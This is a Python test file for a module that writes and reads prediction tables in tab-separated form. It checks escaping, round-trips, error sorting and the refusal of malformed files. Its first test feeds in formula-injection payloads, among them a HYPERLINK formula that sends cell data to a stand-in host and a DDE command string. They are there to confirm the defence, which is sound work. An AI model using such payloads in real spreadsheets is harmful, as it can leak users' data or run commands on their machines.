"""Tables of predictions: what spreadsheets read, and no cell that is a formula."""

import csv
import io
import json
import random

import numpy as np
import pytest

from bert_tf.runs.results import tables
from bert_tf.runs.results.tables import KeptRows
from tests.support.refusals import refuses


def test_no_text_is_a_formula():
    for text in (
        *('=HYPERLINK("http://x.example/?"&A1)', "+1 555 0100", "-2+3", "@SUM(1)", "- a list"),
        *("\t=1", "\r=1", "\n=1", "  =1", "\u00a0=1", "\ufeff=1", "\u200b@x"),
        *("\uff1dcmd|' /C calc'!A0", "-", "--5", "-1e5x", "=1", "-1\n", "\ttext"),
        "+\u0661",  # an Arabic digit
    ):
        (cell,) = next(csv.reader(io.StringIO(tables.cell(text), newline=""), delimiter="\t"))
        assert cell == f"'{text}"


def test_numbers_are_bare_and_a_text_that_is_a_number_stays():
    for value, expected in (
        *((-3, "-3"), (np.float32(-0.25), "-0.25"), (0.5, "0.5"), (None, ""), ("a-b=c", '"a-b=c"')),
        *((text, f'"{text}"') for text in ("-1", "+1", "-0.5", "-1e-7", "+.5", "-3.")),
    ):
        assert tables.cell(value) == expected


def test_texts_come_back_as_they_were(tmp_path):
    path = f"{tmp_path}/t.tsv"
    texts = ["tab\there", 'a "quote"', "two\nlines", "ends\r\n", "semi;colon, comma", "", "'tis"]
    texts += ["ü 文", "a\ud800b"]
    tables.write_table(path, ["id", "text"], [[f"x-{i}", text] for i, text in enumerate(texts)])
    found = tables.read_table(path)
    assert found == {"id": [f"x-{i}" for i in range(len(texts))], "text": [*texts[:-1], "a?b"]}


def test_random_texts_come_back_and_begin_no_formula(tmp_path):
    rng = random.Random(7)
    signs = "=+-@\t\r\n\"' ,;a1.e\u00a0\ufeff\uff1d\x00"
    texts = ["".join(rng.choices(signs, k=rng.randint(0, 6))) for _ in range(5000)]
    tables.write_table(f"{tmp_path}/t.tsv", ["text", "number"], [[x, -1.5] for x in texts])
    found = tables.read_table(f"{tmp_path}/t.tsv")
    assert found["number"] == ["-1.5"] * 5000
    for text, cell in zip(texts, found["text"], strict=True):
        assert cell in (text, f"'{text}")
        if cell.lstrip(" \t\r\n\u00a0\ufeff\x00")[:1] in tuple("=+-@\uff1d"):
            float(cell)  # nothing else may begin so


def test_names_of_columns_may_have_labels_in_them(tmp_path):
    columns = ["id", "probability B", 'probability a\t"b"', "=x"]
    tables.write_table(f"{tmp_path}/t.tsv", columns, [])
    assert list(tables.read_table(f"{tmp_path}/t.tsv")) == [*columns[:3], "'=x"]
    assert (tmp_path / "t.tsv").read_text().startswith("id\tprobability B\t")
    # A spreadsheet may also separate columns at commas and semicolons, as its user once chose.
    tables.write_table(f"{tmp_path}/t.tsv", ["id", "text"], [[1, "a;=1"], [2, "a,=1"]])
    text = (tmp_path / "t.tsv").read_text()
    for separator in ";,":
        rows = csv.reader(io.StringIO(text.replace("\t", separator)), delimiter=separator)
        assert [row[1] for row in rows] == ["text", "a;=1", "a,=1"]


def test_long_tables_and_texts_are_whole(tmp_path):
    rows = [[i, "x" * 200_000 if i == 1500 else "y"] for i in range(2001)]
    tables.write_table(f"{tmp_path}/t.tsv", ["id", "text"], rows)
    found = tables.read_table(f"{tmp_path}/t.tsv")
    assert found["id"] == [str(i) for i in range(2001)] and len(found["text"][1500]) == 200_000
    tables.write_table(f"{tmp_path}/t.tsv", ["id"], [])
    assert tables.read_table(f"{tmp_path}/t.tsv") == {"id": []}


def test_another_file_is_refused(tmp_path):
    for content, message in (
        ("", "must be a table as the evaluation writes it"),
        ("id\tlabel\n1\n", "with as many columns in each row as in its header; it begins 'id"),
        ("id\n1\t2\n", "Evaluate again"),
    ):
        (tmp_path / "t.tsv").write_text(content)
        refuses(message, tables.read_table, f"{tmp_path}/t.tsv")


def kept(labels):
    return KeptRows({"id": f"d-{i}", "text_a": f"t{i}", "label": x} for i, x in enumerate(labels))


def test_rows_are_kept_on_disk_with_all_columns(tmp_path):
    kept_rows = [{"id": "1", "text_b": None}, {"id": "\ud800\n", "text_b": "b"}, {"label": 2.5}]
    kept_rows.append({"label": np.int64(-7), "id": np.float32(1.5)})
    rows = KeptRows(kept_rows)
    assert len(rows) == 4 and rows.columns == ["id", "text_b", "label"]
    assert [rows[i] for i in (1, 0, 3, 2)] == [kept_rows[i] for i in (1, 0, 3, 2)]
    assert KeptRows([]).columns == []
    with pytest.raises(OSError, match="Cannot keep the texts .*/gone: No such file"):
        KeptRows([], f"{tmp_path}/gone")


def test_errors_begin_with_the_most_certain_one(tmp_path):
    probabilities = np.array([[0.9, 0.1], [0.4, 0.6], [0.2, 0.8], [0.3, 0.7]], np.float32)
    rows = kept(["no", "no", "no", "yes"])
    right = np.array([0, 0, 0, 1])
    tables.write_review(f"{tmp_path}", "_x", rows, ["no", "yes"], right, probabilities)
    found = tables.read_table(f"{tmp_path}/errors_x.tsv")
    assert found == {
        "id": ["d-2", "d-1"],
        "text_a": ["t2", "t1"],
        "label": ["no", "no"],
        "prediction": ["yes", "yes"],
        "probability": ["0.8", "0.6"],
    }
    found = tables.read_table(f"{tmp_path}/eval_predictions_x.tsv")
    assert found["id"] == [f"d-{i}" for i in range(4)]
    assert json.loads((tmp_path / "eval_report_x.json").read_text())["accuracy"] == 0.5
    assert "accuracy: 0.5000" in (tmp_path / "eval_report_x.txt").read_text()
    tables.write_review(f"{tmp_path}", "", kept(["no"]), ["no", "yes"], right[:1], np.eye(2)[:1])
    assert tables.read_table(f"{tmp_path}/errors.tsv")["id"] == []


def test_errors_of_a_regression_begin_with_the_largest_difference(tmp_path):
    y_true, predicted = np.array([1, 2, 3, 4], np.float32), np.array([1, 2.5, 0, 4.25], np.float32)
    tables.write_review(f"{tmp_path}", "", kept(y_true.tolist()), None, y_true, predicted)
    found = tables.read_table(f"{tmp_path}/errors.tsv")
    assert found["id"] == ["d-2", "d-1", "d-3"] and found["difference"] == ["-3.0", "0.5", "0.25"]
    assert found["label"] == ["3.0", "2.0", "4.0"] and "probability" not in found
    assert json.loads((tmp_path / "eval_report.json").read_text())["examples"] == 4
